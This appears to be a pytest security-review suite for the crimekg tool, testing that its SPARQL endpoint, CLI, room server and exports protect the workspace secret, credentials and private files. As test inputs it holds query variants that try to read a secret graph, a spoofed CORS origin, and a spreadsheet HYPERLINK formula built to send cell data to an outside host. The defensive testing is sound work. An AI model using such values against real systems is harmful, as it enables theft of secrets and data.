"""A fresh-eyes security review: what must stay private (the workspace secret, a server's
credentials) and what must fail in one line, each tried for real against a workspace on a real
SPARQL server (Oxigraph server, tests/conftest.py) and through the real commands.

Tests marked ``xfail(strict=True)`` show defects found in code this review does not change; each
says where the fix belongs, and starts to pass (and so fails, being strict) once it is made.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from crimekg.cli import cli
from crimekg.graph.query import internal_graph_named
from crimekg.graph.server.sparql import answer_query
from crimekg.graph.store import init_store, open_store
from tests.helpers import ROOT

CONTRIBUTIONS = ROOT / "examples" / "example-contributions.csv"
#: Ways to name the secret's graph in a query's dataset: whole, escaped, through a PREFIX, in any case.
NAMING_THE_SECRET = [
    "SELECT ?s FROM <urn:crimekg:secret> WHERE { ?w ?p ?s }",
    "SELECT ?s FROM NAMED <urn:crimekg:secret> WHERE { GRAPH ?g { ?w ?p ?s } }",
    "SELECT ?s FROM <urn:\\u0063rimekg:secret> WHERE { ?w ?p ?s }",
    "PREFIX u: <urn:> SELECT ?s FROM NAMED u:crimekg:secret WHERE { GRAPH ?g { ?w ?p ?s } }",
    "PREFIX x: <urn:crimekg:sec> SELECT ?s FROM x:ret WHERE { ?w ?p ?s }",
]


def _import(store_location: str, session: str) -> None:
    result = CliRunner().invoke(cli, ["import", str(CONTRIBUTIONS), "--session", session, "--store", store_location])
    assert result.exit_code == 0, result.output


@pytest.fixture
def server_workspace(oxigraph_server):
    """A workspace on an Oxigraph server holding the example's contributions (so it has a secret)."""
    oxigraph_server.clear()
    init_store(oxigraph_server.url).close()
    _import(oxigraph_server.url, "unafei-172-2026")
    with open_store(oxigraph_server.url) as store:
        secret = store.read_secret()
    assert secret is not None and len(secret) == 32
    return oxigraph_server.url, secret.hex()


# -- the workspace secret -----------------------------------------------------------------------


def test_the_endpoint_refuses_a_query_naming_an_internal_graph_on_a_server_workspace(server_workspace):
    """A query's FROM / FROM NAMED is its own dataset, which a SPARQL server honours: naming the
    secret's graph there read the secret. The endpoint refuses such a query, however it is spelt."""
    url, secret = server_workspace
    with open_store(url) as store:
        for text in NAMING_THE_SECRET:
            answer = answer_query(store, text, accept="text/csv")
            assert answer.status == 403, (text, answer.body)
            assert secret not in answer.body and "internal graphs" in answer.body and answer.body.count("\n") == 1
        # a dataset of the workspace's own graphs is still a query like any other
        answer = answer_query(store, "SELECT (COUNT(*) AS ?n) FROM <https://w3id.org/crimekg/graph/session> WHERE { ?s ?p ?o }",
                              accept="text/csv")
        assert answer.status == 200 and int(answer.body.split()[-1]) > 0


def test_the_endpoint_refuses_an_internal_graph_on_a_directory_workspace_too(tmp_path):
    ws = str(tmp_path / "ws")
    init_store(ws).close()
    _import(ws, "room-2026")
    with open_store(ws) as store:
        for text in NAMING_THE_SECRET:
            assert answer_query(store, text, accept="text/csv").status == 403, text
        # the words of a literal or a comment are not a graph's name
        text = 'SELECT ?l WHERE { ?f skos:prefLabel ?l FILTER(?l != "urn:crimekg:secret") } LIMIT 1 # FROM <urn:crimekg:secret>'
        assert internal_graph_named(text) is None
        assert answer_query(store, text, accept="text/csv").status == 200


def test_crimekg_query_never_shows_the_secret_of_a_server_workspace(server_workspace):
    """A query's own FROM is its dataset on a server: one naming an internal graph is refused."""
    url, secret = server_workspace
    for text in NAMING_THE_SECRET[:2]:
        result = CliRunner().invoke(cli, ["query", "--store", url, "--format", "csv", text])
        assert secret not in result.output, text
        assert result.exit_code == 1 and "internal graphs" in result.output and result.output.count("\n") == 1, result.output


# -- serve on a SPARQL server ---------------------------------------------------------------------


def test_serve_on_a_sparql_server_is_refused_in_one_line_without_its_credentials(tmp_path):
    """The room keeps pending submissions in files beside the store: on a server URL it stopped with
    'http:/host/crimekg-serve: No such file or directory'; now one line, with no user information."""
    result = CliRunner().invoke(cli, ["serve", "--store", "http://analyst:pa55-w0rd@127.0.0.1:1/crimekg", "--port", "1"])
    assert result.exit_code != 0 and not isinstance(result.exception, (OSError, ValueError))
    message = result.output.strip()
    assert message.count("\n") == 0 and "workspace directory" in message and "crimekg copy" in message
    assert "pa55-w0rd" not in message and "analyst" not in message and "http://127.0.0.1:1/crimekg" in message


# -- a bad store URL --------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["http://127.0.0.1:99999/ds", "http://[::1/ds", "http://ana@127.0.0.1:port/ds"])
def test_a_malformed_store_url_is_refused_in_one_line(url):
    result = CliRunner().invoke(cli, ["graphs", "--store", url])
    assert result.exit_code == 1 and not isinstance(result.exception, ValueError), result.exception
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1
    assert "http://HOST:PORT/PATH" in result.output and "ana" not in result.output


# -- the facilitator's secret ---------------------------------------------------------------------


@pytest.mark.parametrize("secret", ["qz7", "12345678901", "  wx9k   "])
def test_a_short_facilitator_secret_is_refused_before_anything_opens(tmp_path, secret):
    """The login has no lock-out: a secret of a few characters, on the room's network, is guessed."""
    ws = tmp_path / "ws"
    result = CliRunner().invoke(cli, ["serve", "--store", str(ws), "--secret", secret, "--lan", "--port", "1"])
    assert result.exit_code == 1 and result.output.startswith("Error: --secret: ") and "at least 12" in result.output
    assert result.output.count("\n") == 1 and secret.strip() not in result.output
    assert not ws.exists()  # refused before the workspace was opened (or made)


# -- the room's own files -----------------------------------------------------------------------------


def test_the_rooms_key_and_pending_submissions_are_readable_by_their_owner_only(tmp_path):
    """The key signs cookies and CSRF tokens; the journal holds what participants wrote before the
    facilitator checked it (rejected text included). Both are made mode 600, whatever the umask."""
    import os
    import stat

    from crimekg.graph.server.room import Room

    old = os.umask(0o022)
    try:
        with init_store(tmp_path / "ws") as store:
            room = Room(store, "s1")
            sub, problems = room.submit("s1", "owner", {"text": "偽の求人広告 · Фиктивные вакансии · إعلانات وظائف وهمية", "category": "enabling"})
            assert sub is not None and not problems
            for path in (room.dir / "key", room.journal):
                assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
            assert len((room.dir / "key").read_bytes()) == 32
            assert not [p.name for p in room.dir.iterdir() if p.name.startswith(".key.")]  # nothing left aside
            # a key file cut short (a kill while it was first written) is made again, not used as a shorter key
            (room.dir / "key").write_bytes(b"")
            again = Room(store, "s1")
            assert len(again.key) == 32 and (room.dir / "key").read_bytes() == again.key
            assert [s.fields["text"] for s in again.queue()] == [sub.fields["text"]]
            # files an earlier version left readable by everyone are made private when the room opens
            for path in (room.dir / "key", room.journal):
                path.chmod(0o644)
            Room(store, "s1")
            assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in (room.dir / "key", room.journal))
    finally:
        os.umask(old)


# -- outputs ----------------------------------------------------------------------------------------


def test_an_export_written_over_a_private_file_stays_private(tmp_path):
    """A full export holds contributor codes, groups and times: one its owner made readable by them
    alone (chmod 600) was replaced by a file readable by everyone (the umask's 644)."""
    import stat

    from crimekg.graph.outputs import new_file_mode

    ws = str(tmp_path / "ws")
    init_store(ws).close()
    _import(ws, "room-2026")
    out = tmp_path / "full-エクスポート.ttl"
    for step in range(2):
        result = CliRunner().invoke(cli, ["export", "--store", ws, "-o", str(out)])
        assert result.exit_code == 0, result.output
        if step == 0:
            assert stat.S_IMODE(out.stat().st_mode) == new_file_mode()  # a new file: as the umask says
            out.chmod(0o600)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "P01" in out.read_text(encoding="utf-8")


def test_an_rdf_xml_export_that_xml_cannot_hold_is_refused_in_one_line(tmp_path):
    """A control character pasted into a cell is stored as it is; Turtle and JSON-LD carry it, but
    XML cannot, and `export --format xml` wrote a file that no parser reads back."""
    import csv
    import xml.dom.minidom

    ws = str(tmp_path / "ws")
    init_store(ws).close()
    sheet = tmp_path / "paste.csv"
    with open(sheet, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["text", "kind", "category", "contributor code"])
        w.writerow(["偽造ビザ\x01の販売 · Продажа поддельных виз", "factor", "enabling", "P03"])
    result = CliRunner().invoke(cli, ["import", str(sheet), "--session", "room-2026", "--store", ws])
    assert result.exit_code == 0, result.output
    for profile in ("full", "public"):
        out = tmp_path / f"{profile}.rdf"
        result = CliRunner().invoke(cli, ["export", "--store", ws, "--profile", profile, "--format", "xml", "-o", str(out)])
        assert result.exit_code == 1 and result.output.count("\n") == 1, result.output
        assert "U+0001" in result.output and "https://w3id.org/crimekg/data/" in result.output and "Turtle" in result.output
        assert not out.exists()
        ttl = tmp_path / f"{profile}.ttl"  # the formats that can hold it still write it
        assert CliRunner().invoke(cli, ["export", "--store", ws, "--profile", profile, "-o", str(ttl)]).exit_code == 0
        assert "偽造ビザ" in ttl.read_text(encoding="utf-8") and "Продажа поддельных виз" in ttl.read_text(encoding="utf-8")
    # without such a character, RDF/XML is written and parses, every script kept
    ws2 = str(tmp_path / "ws2")
    init_store(ws2).close()
    _import(ws2, "room-2026")
    out = tmp_path / "ok.rdf"
    assert CliRunner().invoke(cli, ["export", "--store", ws2, "--format", "xml", "-o", str(out)]).exit_code == 0
    xml.dom.minidom.parse(str(out))


# -- which pages may read the endpoint through a browser ---------------------------------------------


def test_cors_origin_names_the_other_sites_that_may_read_the_endpoint(tmp_path):
    """--cors-origin adds a site (or '*' every page) to this server's pages and this machine's."""
    import asyncio

    import httpx

    from crimekg.graph.server.app import create_app
    from crimekg.graph.server.room import Room

    def ask(app, method: str, origin: str) -> httpx.Response:
        async def go() -> httpx.Response:
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1:8765") as c:
                return await c.request(method, "/sparql", params={"query": "ASK { ?s ?p ?o }"},
                                       headers={"Origin": origin, "Access-Control-Request-Method": "POST"})
        return asyncio.run(go())

    with init_store(tmp_path / "ws") as store:
        room = Room(store, "s1")
        named = create_app(room, secret="tea-and-maps-7", cors_origins=("https://Notebooks.example.org/",))
        r = ask(named, "GET", "https://notebooks.example.org")
        assert r.status_code == 200 and r.headers["access-control-allow-origin"] == "https://notebooks.example.org"
        for other in ("https://notebooks.example.org.evil.example", "http://notebooks.example.org", "https://example.org"):
            r = ask(named, "GET", other)
            assert r.status_code == 200 and "access-control-allow-origin" not in r.headers, other
        every = create_app(room, secret="tea-and-maps-7", cors_origins=("*",))
        r = ask(every, "OPTIONS", "https://anywhere.example")
        assert r.status_code == 204 and r.headers["access-control-allow-origin"] == "*"


@pytest.mark.parametrize("origin", ["notebooks.example.org", "https://notebooks.example.org/lab", "ftp://x.example", "https://u:p@x.example"])
def test_a_cors_origin_that_is_not_an_origin_is_refused_in_one_line(tmp_path, origin):
    ws = tmp_path / "ws"
    result = CliRunner().invoke(cli, ["serve", "--store", str(ws), "--cors-origin", origin, "--port", "1"])
    assert result.exit_code == 1 and result.output.startswith("Error: --cors-origin ") and result.output.count("\n") == 1
    assert "scheme://host[:port]" in result.output and not ws.exists()


def _workspace_with_a_control_character(tmp_path) -> str:
    import csv

    ws = str(tmp_path / "ws")
    init_store(ws).close()
    sheet = tmp_path / "paste.csv"
    with open(sheet, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["text", "label", "kind", "category", "contributor code"])
        w.writerow(["ขายวีซ่าปลอม\x01 · بيع تأشيرات مزورة", "ขายวีซ่าปลอม\x01", "factor", "enabling", "P03"])
    result = CliRunner().invoke(cli, ["import", str(sheet), "--session", "room-2026", "--store", ws])
    assert result.exit_code == 0, result.output
    return ws


LABELS = 'SELECT ?l WHERE { ?f skos:prefLabel ?l FILTER(CONTAINS(?l, "ขายวีซ่าปลอม")) }'


def test_the_endpoint_refuses_xml_that_xml_cannot_hold_and_answers_in_the_other_formats(tmp_path):
    import json

    with open_store(_workspace_with_a_control_character(tmp_path)) as store:
        answer = answer_query(store, LABELS, accept="application/sparql-results+xml")
        assert answer.status == 406 and "U+0001" in answer.body and "application/sparql-results+json" in answer.body
        assert answer.body.count("\n") == 1
        construct = LABELS.replace("SELECT ?l", "CONSTRUCT { ?f skos:prefLabel ?l }")
        answer = answer_query(store, construct, accept="application/rdf+xml")
        assert answer.status == 406 and "text/turtle" in answer.body
        answer = answer_query(store, LABELS, accept="application/sparql-results+json")
        assert answer.status == 200
        assert [b["l"]["value"] for b in json.loads(answer.body)["results"]["bindings"]] == ["ขายวีซ่าปลอม\x01"]


@pytest.mark.parametrize("fmt", ["sparql-xml", "xml"])
def test_crimekg_query_never_writes_xml_that_does_not_parse(tmp_path, fmt):
    import xml.dom.minidom

    ws = _workspace_with_a_control_character(tmp_path)
    text = LABELS if fmt == "sparql-xml" else LABELS.replace("SELECT ?l", "CONSTRUCT { ?f skos:prefLabel ?l }")
    result = CliRunner().invoke(cli, ["query", "--store", ws, "--format", fmt, text])
    if result.exit_code == 0:
        xml.dom.minidom.parseString(result.stdout_bytes)
    else:
        assert result.output.startswith("Error: ") and result.output.count("\n") == 1
        assert "U+0001" in result.output and "--format" in result.output  # what, and what to use instead


def test_a_release_that_fails_while_writing_leaves_no_half_release(tmp_path, monkeypatch):
    """The release was built in memory but then written file by file into its folder: a full disk
    halfway left a folder with some files and no SHA256SUMS. Now it is written aside and renamed."""
    import builtins
    import errno
    import io

    ws = str(tmp_path / "ws")
    init_store(ws).close()
    _import(ws, "room-2026")
    real_open, opened = builtins.open, []

    def full_disk(file, mode="r", *args, **kwargs):
        if "w" in mode and str(file).endswith(("data.ttl", "README.md")):
            opened.append(str(file))
            if len(opened) == 2:
                raise OSError(errno.ENOSPC, "No space left on device", str(file))
        return real_open(file, mode, *args, **kwargs)

    target = tmp_path / "リリース-2026"
    monkeypatch.setattr(builtins, "open", full_disk)
    monkeypatch.setattr(io, "open", full_disk)  # what Path.write_bytes opens with
    result = CliRunner().invoke(cli, ["release", str(target), "--store", ws])
    monkeypatch.undo()
    assert result.exit_code != 0 and len(opened) == 2
    assert not target.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["ws"]  # nothing written aside left
    # the same command on a working disk writes the whole release, which loads back whole
    result = CliRunner().invoke(cli, ["release", str(target), "--store", ws])
    assert result.exit_code == 0, result.output
    assert len(list(target.iterdir())) == len((target / "SHA256SUMS").read_text().splitlines()) + 1  # and SHA256SUMS
    # a release folder inside the workspace is refused, as every other output there
    result = CliRunner().invoke(cli, ["release", str(Path(ws) / "out"), "--store", ws])
    assert result.exit_code == 1 and "inside the crimekg workspace" in result.output and not (Path(ws) / "out").exists()


def test_a_label_that_looks_like_a_formula_stays_text_in_the_template(tmp_path):
    """openpyxl writes a text starting with '=' as a formula, which a spreadsheet runs when the
    template is opened; the template's lists and notes keep every value a text."""
    import openpyxl

    from crimekg.graph.contributions import Vocabulary
    from crimekg.graph.template import write_template

    vocab = Vocabulary.bundled()
    hostile = '=HYPERLINK("http://example.org/?"&A1,"Нигерия")'
    country = sorted(vocab.countries)[0]
    vocab.names["place"][country] = hostile
    out = write_template(tmp_path / "room.xlsx", "xlsx", vocab=vocab)
    wb = openpyxl.load_workbook(out)
    cells = [c for row in wb["Lists"].iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)
